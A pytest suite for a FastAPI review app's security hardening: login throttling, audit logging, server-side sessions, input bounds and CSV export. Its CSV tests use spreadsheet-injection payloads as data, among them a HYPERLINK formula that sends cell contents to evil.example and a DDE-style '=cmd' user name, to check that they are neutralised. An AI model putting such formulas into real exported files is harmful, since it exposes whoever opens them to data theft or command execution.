"""Review-app security (issue 12): login throttling and the audit log, server-side
sessions, formula-safe CSV, validated numbers, bounded input, HTML error pages.

All through the real app with FastAPI's TestClient; time is an injected clock, so
backoff is tested without sleeping.
"""

from __future__ import annotations

import csv
import hashlib
import io
import threading
import time

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select

from qualflow.db import AuditEventRow, DecisionRow, ReviewSessionRow
from qualflow.review import auth, decisions, queue
from qualflow.review.app import create_app
from qualflow.review.audit import AuditLog, read_events
from qualflow.review.inputs import (
    FORM_MAX_BYTES,
    INT64_MAX,
    MEMO_MAX_CHARS,
    SEARCH_MAX_CHARS,
    BadInput,
    share,
    whole_number,
)
from qualflow.review.throttle import PasswordGate, ThrottlePolicy, delay_after
from qualflow.settings import load_settings
from tests.review_support import PASSWORD, csrf_of, login, make_study, version_of
from tests.test_review_postgres import pg_store  # noqa: F401  (fixture)

HUGE = "999999999999999999999999999999"  # 30 digits: beyond any 64-bit integer


class Clock:
    """Epoch seconds that only move when a test says so."""

    def __init__(self) -> None:
        self.now = time.time()

    def __call__(self) -> float:
        return self.now

    def advance(self, seconds: float) -> None:
        self.now += seconds


@pytest.fixture
def clock() -> Clock:
    return Clock()


@pytest.fixture
def web(settings, store, clock):
    study = make_study(settings, store)
    queue.assign(store, ["ann", "bob"], strategy="round_robin")
    return study, create_app(settings, store, clock=clock)


def client(app, name: str | None = None, address: str = "10.0.0.1") -> TestClient:
    c = TestClient(app, client=(address, 50000))
    if name:
        assert login(c, name).status_code == 303
    return c


def mine(store, name: str) -> list[str]:
    user = auth.user_by_name(store, name)
    return [i.passage_id for i in queue.items(store, user, queue.Filters(order="transcript"))]


def audit_log(settings, store) -> AuditLog:
    return AuditLog(store, auth.load_secret(None, settings.data_dir))


def events(store) -> list[str]:
    return [e.event for e in read_events(store, limit=1000)]


# ------------------------------------------------------------------ throttling


def test_delay_doubles_after_the_free_failures_and_is_capped():
    p = ThrottlePolicy(account_free=5, first_delay=2, max_delay=900)
    assert [delay_after(n, 5, p) for n in range(4, 10)] == [0, 2, 4, 8, 16, 32]
    assert delay_after(14, 5, p) == 900 and delay_after(10**6, 5, p) == 900


def test_an_account_is_throttled_with_429_and_retry_after(web, clock):
    _, app = web
    c = client(app)
    for _ in range(5):
        assert login(c, "ann", "wrong password").status_code == 401
    r = login(c, "ann")  # even the right password is not checked now
    assert r.status_code == 429 and r.headers["retry-after"] == "2"
    assert "text/html" in r.headers["content-type"]
    assert "Too many failed logins for this user name" in r.text
    assert "qf_session" not in c.cookies
    clock.advance(1)
    assert login(c, "ann").headers["retry-after"] == "1"  # refusals do not extend the wait
    clock.advance(1)
    assert login(c, "ann").status_code == 303


def test_backoff_grows_with_each_further_failure_up_to_the_lockout(settings, store, clock):
    make_study(settings, store)
    policy = ThrottlePolicy(account_free=2, first_delay=3, max_delay=20)
    app = create_app(settings, store, throttle_policy=policy, clock=clock)
    c = client(app)
    waits = []
    for _ in range(6):
        assert login(c, "ann", "wrong password").status_code == 401
        waits.append(app.state.throttle.check("ann", "10.0.0.1").retry_after)
        if waits[-1]:
            assert login(c, "ann").headers["retry-after"] == str(waits[-1])
        clock.advance(waits[-1])
    assert waits == [0, 3, 6, 12, 20, 20]


def test_throttled_guesses_cost_no_password_check(web, monkeypatch):
    _, app = web
    c = client(app)
    for _ in range(5):
        login(c, "ann", "wrong password")
    checks = []
    real = auth.verify_password
    monkeypatch.setattr(auth, "verify_password", lambda h, p: checks.append(1) or real(h, p))
    statuses = {login(c, "ann", f"guess {i}").status_code for i in range(20)}
    assert statuses == {429} and checks == []


def test_the_password_gate_admits_few_checks_and_one_per_name_and_address():
    gate = PasswordGate(at_once=2)
    with gate.admit("ann", "10.0.0.1") as first:
        with gate.admit("ann", "10.0.0.2") as same_name:
            assert first and not same_name
        with gate.admit("bob", "10.0.0.1") as same_address:
            assert not same_address
        with gate.admit("bob", "10.0.0.2") as other, gate.admit("carl", "10.0.0.3") as third:
            assert other and not third  # two at once
    with gate.admit("ann", "10.0.0.1") as again:
        assert again  # all released


@pytest.mark.parametrize(
    ("at_once", "second_address", "second_status"),
    [(1, "10.0.0.2", 429), (2, "10.0.0.1", 429), (2, "10.0.0.2", 303)],
    ids=["all-busy", "same-address", "room-for-another"],
)
def test_a_login_while_passwords_are_being_checked_is_answered_at_once(
    settings, store, monkeypatch, at_once, second_address, second_status
):
    """Password checks run a few at a time, one per address: a login beyond that gets
    429 at once (it is not parked in a server thread) and is not counted as a failure."""
    make_study(settings, store)
    app = create_app(settings, store, password_checks_at_once=at_once)
    inside, leave = threading.Event(), threading.Event()
    real = auth.check_login

    def slow_check(*args):
        if args[1] == "ann":
            inside.set()
            assert leave.wait(20)
        return real(*args)

    monkeypatch.setattr(auth, "check_login", slow_check)
    first: list[int] = []
    thread = threading.Thread(target=lambda: first.append(login(client(app), "ann").status_code))
    thread.start()
    assert inside.wait(20)
    r = login(client(app, address=second_address), "bob")
    leave.set()
    thread.join(20)
    assert first == [303] and r.status_code == second_status
    if second_status == 429:
        assert r.headers["retry-after"] == "1" and "busy" in r.text
        assert login(client(app, address=second_address), "bob").status_code == 303
    assert events(store) == ["login", "login"]


def test_unknown_names_are_throttled_like_real_ones(web):
    _, app = web
    c = client(app)
    for _ in range(5):
        assert login(c, "nobody", "wrong password").status_code == 401
    r = login(c, "nobody", "wrong password")
    assert r.status_code == 429 and "for this user name" in r.text


def test_one_address_guessing_many_names_is_throttled(settings, store, clock):
    make_study(settings, store)
    app = create_app(settings, store, throttle_policy=ThrottlePolicy(address_free=4), clock=clock)
    guesser = client(app, address="10.0.0.66")
    for name in ("admin", "bob", "carl", "zed"):
        assert login(guesser, name, "wrong password").status_code == 401
    r = login(guesser, "ann")
    assert r.status_code == 429 and "from your network address" in r.text
    assert login(client(app, address="10.0.0.7"), "ann").status_code == 303  # others log in


def test_other_reviewers_log_in_while_one_account_is_throttled(web):
    _, app = web
    c = client(app)
    for _ in range(6):
        login(c, "ann", "wrong password")
    assert login(c, "ann").status_code == 429
    bob = client(app)
    assert login(bob, "bob").status_code == 303 and bob.get("/queue").status_code == 200


def test_a_successful_login_starts_the_count_again(web):
    _, app = web
    c = client(app)
    for _ in range(2):
        for _ in range(4):
            assert login(c, "ann", "wrong password").status_code == 401
        assert login(c, "ann").status_code == 303


def test_unlock_and_password_change_clear_the_account_throttle(web, settings, store):
    _, app = web
    c, log = client(app), audit_log(settings, store)
    for _ in range(5):
        login(c, "ann", "wrong password")
    assert login(c, "ann").status_code == 429
    auth.unlock(store, "ann", audit=log, actor="cli:test")
    assert login(c, "ann").status_code == 303
    for _ in range(5):
        login(c, "bob", "wrong password")
    auth.set_password(store, "bob", "a brand new password", audit=log, actor="cli:test")
    assert login(c, "bob", "a brand new password").status_code == 303


# ------------------------------------------------------------------ audit log


def test_audit_log_records_logins_failures_throttling_and_logouts(web, store):
    _, app = web
    ann = client(app, "ann")
    c = client(app)
    login(c, "bob", "Bob-Guess-1")
    login(c, "hunter2-typed-in-the-name-field", PASSWORD)
    for _ in range(5):
        login(c, "carl", "Carl-Guess-2")
    for _ in range(3):  # refused three times: logged once
        assert login(c, "carl", "Carl-Guess-2").status_code == 429
    ann.post("/logout", data={"csrf": csrf_of(ann.get("/queue").text)})
    log = read_events(store, limit=100)
    assert [e.event for e in log] == (
        ["login", "login_failed", "login_failed"]
        + ["login_failed"] * 5
        + ["login_throttled", "logout"]
    )
    assert [e.username for e in log[:3]] == ["ann", "bob", None]  # unknown name not kept
    assert [e.detail for e in log[1:3]] == ["wrong password", "unknown user name"]
    assert log[0].address == "10.0.0.1" and "per account" in log[8].detail
    with store.session() as s:
        stored = " ".join(
            str(v)
            for row in s.scalars(select(AuditEventRow))
            for v in (row.username, row.actor, row.address, row.account_key, row.detail)
        )
    for secret in (PASSWORD, "Bob-Guess", "Carl-Guess", "hunter2"):
        assert secret not in stored


def test_account_changes_are_audited(web, settings, store):
    log = audit_log(settings, store)
    auth.add_user(store, "dora", "dora's password", audit=log, actor="cli:lead")
    auth.set_role(store, "dora", "admin", audit=log, actor="cli:lead")
    auth.set_password(store, "dora", "another password", audit=log, actor="cli:lead")
    auth.set_active(store, "dora", False, audit=log, actor="cli:lead")
    auth.set_active(store, "dora", True, audit=log, actor="cli:lead")
    got = [(e.event, e.detail) for e in read_events(store, username="dora")]
    assert got == [
        ("user_added", "role reviewer"),
        ("role_changed", "reviewer -> admin"),
        ("sessions_revoked", "0 session(s) ended: role changed"),
        ("password_changed", ""),
        ("sessions_revoked", "0 session(s) ended: password changed"),
        ("deactivated", ""),
        ("sessions_revoked", "0 session(s) ended: deactivated"),
        ("activated", ""),
    ]
    assert {e.actor for e in read_events(store, username="dora")} == {"cli:lead"}


# ------------------------------------------------------------------ sessions


def copy_of(app, original: TestClient) -> TestClient:
    """Another client holding a copy of the original's session cookie."""
    return TestClient(app, cookies={"qf_session": original.cookies["qf_session"]})


def test_a_copied_cookie_stops_working_at_logout(web, store):
    _, app = web
    ann = client(app, "ann")
    thief = copy_of(app, ann)
    pid = mine(store, "ann")[0]
    page = thief.get(f"/passages/{pid}")
    assert page.status_code == 200
    ann.post("/logout", data={"csrf": csrf_of(ann.get("/queue").text)})
    assert thief.get("/queue", follow_redirects=False).status_code == 303
    r = thief.post(
        f"/passages/{pid}/decide",
        data={"csrf": csrf_of(page.text), "version": "0", "action": "flag"},
        follow_redirects=False,
    )
    assert r.status_code == 401 and "Log in" in r.text
    assert decisions.state(store, auth.user_by_name(store, "ann").id, pid).version == 0


def test_a_copied_cookie_stays_dead_after_deactivate_and_activate(web, settings, store):
    _, app = web
    thief = copy_of(app, client(app, "ann"))
    log = audit_log(settings, store)
    auth.set_active(store, "ann", False, audit=log, actor="cli:test")
    auth.set_active(store, "ann", True, audit=log, actor="cli:test")
    assert thief.get("/queue", follow_redirects=False).status_code == 303
    assert client(app, "ann").get("/queue").status_code == 200  # a new login works


@pytest.mark.parametrize("change", ["password", "role", "logout-everywhere"])
def test_account_changes_end_every_session_of_that_user_only(web, settings, store, change):
    _, app = web
    log = audit_log(settings, store)
    laptop, phone, bob = client(app, "ann"), client(app, "ann"), client(app, "bob")
    if change == "password":
        auth.set_password(store, "ann", "a new password", audit=log, actor="cli:test")
    elif change == "role":
        auth.set_role(store, "ann", "admin", audit=log, actor="cli:test")
    else:
        auth.end_sessions(
            store, auth.user_by_name(store, "ann"), "lost laptop", audit=log, actor="x"
        )
    for c in (laptop, phone):
        assert c.get("/queue", follow_redirects=False).status_code == 303
    assert bob.get("/queue").status_code == 200
    assert "2 session(s) ended" in read_events(store, event="sessions_revoked")[-1].detail


def test_logout_ends_only_that_session(web):
    _, app = web
    laptop, phone = client(app, "ann"), client(app, "ann")
    laptop.post("/logout", data={"csrf": csrf_of(laptop.get("/queue").text)})
    assert laptop.get("/queue", follow_redirects=False).status_code == 303
    assert phone.get("/queue").status_code == 200


def test_the_cookie_is_a_random_id_and_the_store_keeps_only_its_hash(web, store):
    _, app = web
    one, two = client(app, "ann"), client(app, "ann")
    assert one.cookies["qf_session"] != two.cookies["qf_session"]
    token = app.state.sessions._token(one.cookies["qf_session"])
    assert isinstance(token, str) and len(token) >= 40
    with store.session() as s:
        ids = set(s.scalars(select(ReviewSessionRow.id)))
    assert hashlib.sha256(token.encode()).hexdigest() in ids and token not in ids


def test_sessions_expire_on_the_server(web, clock):
    _, app = web
    c = client(app, "ann")
    clock.advance(12 * 3600 + 1)  # session_hours = 12; the signed cookie itself is younger
    assert c.get("/queue", follow_redirects=False).status_code == 303


def test_a_stale_cookie_is_cleared_on_the_way_to_the_login_page(web):
    _, app = web
    c = client(app, "ann")
    c.post("/logout", data={"csrf": csrf_of(c.get("/queue").text)})
    thief = TestClient(app, cookies={"qf_session": "not-a-session"})
    r = thief.get("/queue", follow_redirects=False)
    assert r.status_code == 303 and 'qf_session=""' in r.headers["set-cookie"]


# ------------------------------------------------------------------ CSV export


FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\tTAB=1",
    "\r=1",
]


def test_decisions_csv_neutralises_formulas(web, store):
    _, app = web
    ann = auth.user_by_name(store, "ann")
    pid = mine(store, "ann")[0]
    for i, memo in enumerate(FORMULAS):
        decisions.decide(store, ann.id, pid, "flag" if i % 2 else "unflag", version=2 * i)
        decisions.decide(store, ann.id, pid, "memo", version=2 * i + 1, memo="x " + memo)
    with store.session() as s:  # a memo stored verbatim (decisions strips whitespace)
        row = s.scalar(select(DecisionRow).where(DecisionRow.action == "memo").limit(1))
        row.memo = FORMULAS[0]
        extra = [DecisionRow(**{**_copy(row), "memo": m}) for m in FORMULAS[1:]]
        s.add_all(extra)
    text = client(app, "admin").get("/admin/export/decisions.csv").text
    memos = [r["memo"] for r in csv.DictReader(io.StringIO(text)) if r["action"] == "memo"]
    for formula in FORMULAS:
        assert "'" + formula in memos
    for r in csv.DictReader(io.StringIO(text)):
        for value in r.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def _copy(row: DecisionRow) -> dict:
    keep = ("passage_id", "user_id", "action", "before", "after", "state_version")
    return {k: getattr(row, k) for k in keep} | {"track_user_id": row.track_user_id}


def test_a_user_name_that_looks_like_a_formula_is_neutralised_too(web, settings, store):
    _, app = web
    evil = auth.add_user(store, "=cmd|'/c,calc'!A0", "password-1")
    pid = mine(store, "ann")[0]
    decisions.decide(store, evil.id, pid, "flag", version=0)
    text = client(app, "admin").get("/admin/export/decisions.csv").text
    (row,) = csv.DictReader(io.StringIO(text))
    assert row["reviewer"] == "'=cmd|'/c,calc'!A0"


# ------------------------------------------------------------------ numbers


def test_whole_number_bounds():
    assert whole_number("42", "n", minimum=1) == 42
    assert whole_number(str(INT64_MAX), "n", minimum=1) == INT64_MAX
    assert whole_number("", "n", minimum=1, default=7) == 7
    for raw in (HUGE, str(INT64_MAX + 1), "0", "-1", "1e3", "١٢", " 1 2", "0x10"):
        with pytest.raises(BadInput) as err:
            whole_number(raw, "n", minimum=1)
        assert err.value.field == "n" and err.value.status == 400
    for raw in ("nan", "inf", "-0.1", "1.5", "1e400", "x"):
        with pytest.raises(BadInput):
            share(raw, "double")
    assert share("0.25", "double") == 0.25


def _passage_and_page(app, store):
    c = client(app, "ann")
    pid = mine(store, "ann")[0]
    return c, pid, c.get(f"/passages/{pid}").text


@pytest.mark.parametrize(
    ("fields", "field"),
    [
        ({"action": "accept", "proposal_id": HUGE}, "proposal_id"),
        ({"action": "accept", "proposal_id": "-5"}, "proposal_id"),
        ({"action": "accept", "proposal_id": "0"}, "proposal_id"),
        ({"action": "flag", "version": HUGE}, "version"),
        ({"action": "flag", "version": "-1"}, "version"),
        ({"action": "flag", "version": "1.5"}, "version"),
    ],
)
def test_bad_numbers_in_a_decision_get_400_naming_the_field(web, store, fields, field):
    _, app = web
    c, pid, page = _passage_and_page(app, store)
    data = {"csrf": csrf_of(page), "version": str(version_of(page)), **fields}
    r = c.post(f"/passages/{pid}/decide", data=data)
    assert r.status_code == 400 and f"{field}:" in r.text
    assert 'id="error"' in r.text and "text/html" in r.headers["content-type"]
    with store.session() as s:
        assert s.scalar(select(DecisionRow.id)) is None


@pytest.mark.parametrize(
    ("query", "field"),
    [
        (f"?run={HUGE}", "run"),
        ("?run=0", "run"),
        ("?run=abc", "run"),
        ("?limit=-1", "limit"),
        ("?limit=0", "limit"),
        (f"?limit={HUGE}", "limit"),
        ("?order=random&seed=-3", "seed"),
        (f"?seed={HUGE}", "seed"),
        ("?order=sideways", "order"),
        ("?show=everything", "show"),
    ],
)
def test_bad_numbers_in_queue_and_passage_urls_get_an_html_400(web, store, query, field):
    _, app = web
    c = client(app, "ann")
    pid = mine(store, "ann")[0]
    for url in ("/queue", f"/passages/{pid}"):
        r = c.get(url + query)
        assert r.status_code == 400, (url, r.text[:200])
        assert "text/html" in r.headers["content-type"] and 'id="error-page"' in r.text
        assert f"{field}:" in r.text and "Bad request" in r.text


def test_a_negative_limit_no_longer_drops_a_row_silently(web):
    _, app = web
    c = client(app, "admin")
    assert c.get("/queue?order=random&seed=1&limit=-1").status_code == 400
    assert c.get(f"/queue?order=random&seed=1&limit={INT64_MAX}").status_code == 200


@pytest.mark.parametrize(
    ("query", "field"),
    [("limit=-1", "limit"), ("limit=abc", "limit"), (f"limit={HUGE}", "limit")],
)
def test_code_search_numbers_are_checked(web, query, field):
    _, app = web
    c = client(app, "ann")
    r = c.get(f"/codes?q=weekly&{query}", headers={"Accept": "application/json"})
    assert r.status_code == 400 and r.json()["detail"].startswith(f"{field}:")
    assert c.get("/codes?q=weekly&limit=1").json()[0]["title"] == "01.use.frequency.weekly"


@pytest.mark.parametrize(
    ("fields", "field"),
    [
        ({"double": "nan"}, "double"),
        ({"double": "inf"}, "double"),
        ({"double": "2"}, "double"),
        ({"double": "lots"}, "double"),
        ({"seed": HUGE}, "seed"),
        ({"seed": "-1"}, "seed"),
    ],
)
def test_bad_numbers_in_the_assign_form_get_400(web, store, fields, field):
    _, app = web
    admin = client(app, "admin")
    data = {"csrf": csrf_of(admin.get("/admin").text), "reviewers": ["carl"], **fields}
    r = admin.post("/admin/assign", data=data, follow_redirects=False)
    assert r.status_code == 400 and f"{field}:" in r.text
    assert queue.reviewer_loads(store)  # nothing assigned to carl
    assert not [u for u in queue.reviewer_loads(store) if u.username == "carl" and u.assigned]


# ------------------------------------------------------------------ bounded input


def test_a_900_kb_memo_is_refused(web, store):
    _, app = web
    c, pid, page = _passage_and_page(app, store)
    data = {"csrf": csrf_of(page), "version": "0", "action": "memo", "memo": "x" * 900_000}
    r = c.post(f"/passages/{pid}/decide", data=data)
    assert r.status_code == 413 and "too large" in r.text
    assert "text/html" in r.headers["content-type"]
    assert decisions.state(store, auth.user_by_name(store, "ann").id, pid).version == 0


def test_a_memo_over_the_limit_is_refused_naming_the_memo(web, store):
    _, app = web
    c, pid, page = _passage_and_page(app, store)
    data = {"csrf": csrf_of(page), "version": "0", "action": "memo"}
    r = c.post(f"/passages/{pid}/decide", data={**data, "memo": "y" * (MEMO_MAX_CHARS + 1)})
    assert r.status_code == 413 and "memo:" in r.text and f"{MEMO_MAX_CHARS:,}" in r.text
    assert 'maxlength="20000"' in r.text  # the textarea says the limit too
    r = c.post(f"/passages/{pid}/decide", data={**data, "memo": "y" * MEMO_MAX_CHARS})
    assert r.status_code == 200  # followed the redirect: saved
    assert decisions.state(store, auth.user_by_name(store, "ann").id, pid).memo == "y" * 20_000


def test_a_body_without_content_length_is_counted(web, store):
    _, app = web
    c, pid, page = _passage_and_page(app, store)

    def chunks():
        yield f"csrf={csrf_of(page)}&version=0&action=memo&memo=".encode()
        for _ in range(FORM_MAX_BYTES // 4096 + 2):
            yield b"z" * 4096

    r = c.post(
        f"/passages/{pid}/decide",
        content=chunks(),
        headers={"Content-Type": "application/x-www-form-urlencoded"},
    )
    assert r.status_code == 413
    small = c.post(
        f"/passages/{pid}/decide",
        content=iter([f"csrf={csrf_of(page)}&version=0&action=memo&memo=ok".encode()]),
        headers={"Content-Type": "application/x-www-form-urlencoded"},
    )
    assert small.status_code == 200
    assert decisions.state(store, auth.user_by_name(store, "ann").id, pid).memo == "ok"


def test_search_queries_are_bounded(web):
    _, app = web
    c = client(app, "ann")
    r = c.get("/codes", params={"q": "w" * (SEARCH_MAX_CHARS + 1)})
    assert r.status_code == 400 and "q:" in r.text and "text/html" in r.headers["content-type"]
    assert c.get("/codes", params={"q": "w" * SEARCH_MAX_CHARS}).status_code == 200
    r = c.get("/queue", params={"code": "c" * 301})
    assert r.status_code == 400 and "code:" in r.text


# ------------------------------------------------------------------ error pages


@pytest.mark.parametrize(
    ("method", "path", "status", "title"),
    [
        ("GET", "/passages/does-not-exist", 404, "Not found"),
        ("GET", "/no/such/page", 404, "Not found"),
        ("GET", "/passages/{pid}/decide", 405, "Method not allowed"),
        ("GET", "/queue?run=x", 400, "Bad request"),
    ],
)
def test_errors_are_pages_for_browsers_and_json_for_json_clients(
    web, store, method, path, status, title
):
    _, app = web
    c = client(app, "ann")
    url = path.format(pid=mine(store, "ann")[0])
    browser = {"Accept": "text/html,application/xhtml+xml,*/*;q=0.8"}
    r = c.request(method, url, headers=browser)
    assert r.status_code == status and "text/html" in r.headers["content-type"]
    assert f"<h1>{title}</h1>" in r.text and "Back to the queue" in r.text
    assert "Content-Security-Policy" in r.headers
    r = c.request(method, url, headers={"Accept": "application/json"})
    assert r.status_code == status and "detail" in r.json()


def test_posting_without_a_session_gets_a_401_page(web, store):
    _, app = web
    r = TestClient(app).post(
        f"/passages/{mine(store, 'ann')[0]}/decide", data={"action": "flag", "version": "0"}
    )
    assert r.status_code == 401 and "<h1>Log in required</h1>" in r.text


def test_login_redirects_refuse_backslash_tricks(web):
    _, app = web
    c = TestClient(app)
    for target in ("/\\evil.example", "//evil.example", "https://evil.example", "/ok\n"):
        r = c.post(
            "/login",
            data={
                "username": "ann",
                "password": PASSWORD,
                "csrf": csrf_of(c.get("/login").text),
                "next": target,
            },
            follow_redirects=False,
        )
        assert r.headers["location"] == "/queue", target


# ------------------------------------------------------------------ migration


def test_the_review_sessions_migration_upgrades_a_store_with_users_and_downgrades(tmp_path):
    """A store at review_track with an account upgrades: the account logs in, gets a
    server-side session and an audit row; the downgrade removes just the two tables."""
    from pathlib import Path as P

    from alembic import command
    from alembic.config import Config
    from sqlalchemy import inspect

    from qualflow.db import make_engine, migrate
    from qualflow.settings import load_settings
    from qualflow.store import Store
    from tests.review_support import password_hash

    engine = make_engine(f"sqlite:///{tmp_path / 'old.db'}")
    cfg = Config()
    cfg.set_main_option("script_location", str(P(auth.__file__).parents[1] / "migrations"))
    with engine.begin() as conn:
        cfg.attributes["connection"] = conn
        command.upgrade(cfg, "review_track")
    with engine.begin() as conn:
        conn.exec_driver_sql(
            "INSERT INTO users (id, username, password_hash, role, active, created_at) "
            f"VALUES (1, 'ann', '{password_hash()}', 'reviewer', 1, '2026-01-01')"
        )
    assert "review_sessions" not in inspect(engine).get_table_names()
    migrate(engine)
    migrate(engine)  # idempotent
    assert {"review_sessions", "audit_events"} <= set(inspect(engine).get_table_names())
    store = Store.open(str(engine.url))
    settings = load_settings(tmp_path / "ws", database_url=str(engine.url))
    c = TestClient(create_app(settings, store))
    assert login(c, "ann").status_code == 303 and c.get("/queue").status_code == 200
    assert events(store) == ["login"]
    store.close()
    with engine.begin() as conn:
        cfg.attributes["connection"] = conn
        command.downgrade(cfg, "review_sessions-1")  # this branch only
    tables = set(inspect(engine).get_table_names())
    assert "review_sessions" not in tables and "audit_events" not in tables and "users" in tables
    engine.dispose()


@pytest.mark.postgres
@pytest.mark.slow
def test_sessions_throttling_and_audit_on_postgres(request, tmp_path, clock):
    """The same rules on PostgreSQL (timestamptz comparisons, revocation, counting)."""
    store, url = request.getfixturevalue("pg_store")  # a throwaway database
    settings = load_settings(tmp_path / "ws", database_url=url)
    make_study(settings, store)
    app = create_app(settings, store, clock=clock)
    ann = client(app, "ann")
    thief = copy_of(app, ann)
    ann.post("/logout", data={"csrf": csrf_of(ann.get("/queue").text)})
    assert thief.get("/queue", follow_redirects=False).status_code == 303
    c = client(app)
    for _ in range(5):
        assert login(c, "bob", "Bob-Guess-3").status_code == 401
    r = login(c, "bob")
    assert r.status_code == 429 and r.headers["retry-after"] == "2"
    clock.advance(2)
    assert login(c, "bob").status_code == 303
    log = audit_log(settings, store)
    auth.set_active(store, "bob", False, audit=log, actor="cli:test")
    auth.set_active(store, "bob", True, audit=log, actor="cli:test")
    assert c.get("/queue", follow_redirects=False).status_code == 303
    assert events(store)[:2] == ["login", "logout"] and "login_throttled" in events(store)
